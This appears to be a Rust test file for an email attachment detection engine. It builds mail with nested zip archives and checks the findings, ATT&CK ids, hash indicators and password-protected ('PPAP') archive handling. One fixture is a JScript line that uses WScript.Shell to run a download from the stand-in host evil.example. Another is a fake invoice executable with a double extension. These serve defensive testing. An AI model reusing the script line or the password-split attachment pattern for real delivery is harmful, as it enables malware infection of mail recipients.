//! Attachment analysis through the engine: findings with nested-path evidence and ATT&CK ids, PPAP passwords from
//! the body, URLs and hashes of nested files in the indicators, and the catalogue covering every observation id.

use std::io::{Cursor, Write};

use mamori_detect::{DetectConfig, Engine, Verdict};
use mamori_mail::Envelope;

fn zip_of(name: &str, data: &[u8], password: Option<&'static str>) -> Vec<u8> {
    let mut options = zip::write::SimpleFileOptions::default();
    if let Some(p) = password {
        options = options.with_aes_encryption(zip::AesMode::Aes256, p);
    }
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file(name, options).expect("entry");
    w.write_all(data).expect("write");
    w.finish().expect("finish").into_inner()
}

fn base64(data: &[u8]) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (i, chunk) in data.chunks(3).enumerate() {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(T[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
        if i % 19 == 18 {
            out.push_str("\r\n");
        }
    }
    out
}

fn mail(body: &str, attachment: Option<(&str, &[u8])>) -> Vec<u8> {
    let mut m = String::from(
        "From: sales@example.net\r\nTo: buyer@example.co.jp\r\nSubject: 請求書\r\nDate: Mon, 3 Nov 2025 10:00:00 +0900\r\n\
         Message-ID: <a1@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
    );
    m.push_str(body);
    m.push_str("\r\n");
    if let Some((name, data)) = attachment {
        m.push_str(&format!(
            "--b\r\nContent-Type: application/zip; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            base64(data)
        ));
    }
    m.push_str("--b--\r\n");
    m.into_bytes()
}

fn run(raw: &[u8]) -> Verdict {
    let engine = Engine::new(DetectConfig::default()).expect("engine");
    engine.analyse(&Envelope::default(), raw)
}

fn finding<'a>(v: &'a Verdict, id: &str) -> Option<&'a mamori_detect::Finding> {
    v.findings.iter().find(|f| f.id == id)
}

#[test]
fn nested_executable_is_a_finding_with_path_hashes_and_attack_ids() {
    let inner = zip_of(
        "請求書.pdf.exe",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
        None,
    );
    let outer = zip_of("docs.zip", &inner, None);
    let v = run(&mail(
        "添付をご確認ください。",
        Some(("invoice.zip", &outer)),
    ));
    let exe = finding(&v, "file.executable").expect("file.executable");
    assert!(
        exe.evidence[0].starts_with("invoice.zip → docs.zip → 請求書.pdf.exe"),
        "{:?}",
        exe.evidence
    );
    assert!(exe.attack.iter().any(|t| t == "T1204.002"));
    assert!(finding(&v, "file.name.double_extension").is_some());
    assert!(v.attack.iter().any(|t| t == "T1036.007"));
    // Every file, nested ones too, is an indicator with all three hashes.
    assert_eq!(v.indicators.files.len(), 3, "{:?}", v.indicators.files);
    let nested = v
        .indicators
        .files
        .iter()
        .find(|f| f.path.is_some())
        .expect("nested file");
    assert!(nested.md5.as_deref().is_some_and(|h| h.len() == 32) && nested.sha1.is_some());
}

#[test]
fn ppap_password_in_the_body_opens_the_archive() {
    let z = zip_of(
        "見積.js",
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('https://evil.example/x.exe');",
        Some("Zx9Pq4Lm"),
    );
    let locked = run(&mail("ご確認ください。", Some(("見積.zip", &z))));
    assert!(finding(&locked, "file.archive.encrypted").is_some());
    let opened = run(&mail("パスワード：Zx9Pq4Lm", Some(("見積.zip", &z))));
    assert!(finding(&opened, "file.archive.password_opened").is_some());
    assert!(finding(&opened, "file.archive.encrypted").is_none());
    assert!(finding(&opened, "file.script").is_some());
    // The URL inside the script is analysed as a link and listed as an indicator.
    assert!(finding(&opened, "link.dangerous_download").is_some());
    assert!(
        opened
            .indicators
            .urls
            .iter()
            .any(|u| u.contains("evil.example"))
    );
    assert!(
        opened
            .indicators
            .domains
            .iter()
            .any(|d| d == "evil.example")
    );
    // The follow-up that only carries the password.
    let notice = run(&mail(
        "先ほどのファイルのパスワードをお送りします。\r\nパスワード：Zx9Pq4Lm",
        None,
    ));
    assert!(finding(&notice, "ppap.password_notice").is_some());
}

#[test]
fn every_observation_id_is_catalogued() {
    for kind in mamori_files::ObservationKind::ALL {
        assert!(
            mamori_detect::catalog::spec(kind.id()).is_some(),
            "{} is not in the catalogue",
            kind.id()
        );
    }
}

#[test]
fn attachment_analysis_can_be_switched_off() {
    let inner = zip_of("a.exe", b"MZ\x90\x00", None);
    let mut config = DetectConfig::default();
    config.attachments.enabled = false;
    let engine = Engine::new(config).expect("engine");
    let v = engine.analyse(&Envelope::default(), &mail("x", Some(("a.zip", &inner))));
    assert!(finding(&v, "file.executable").is_none());
}
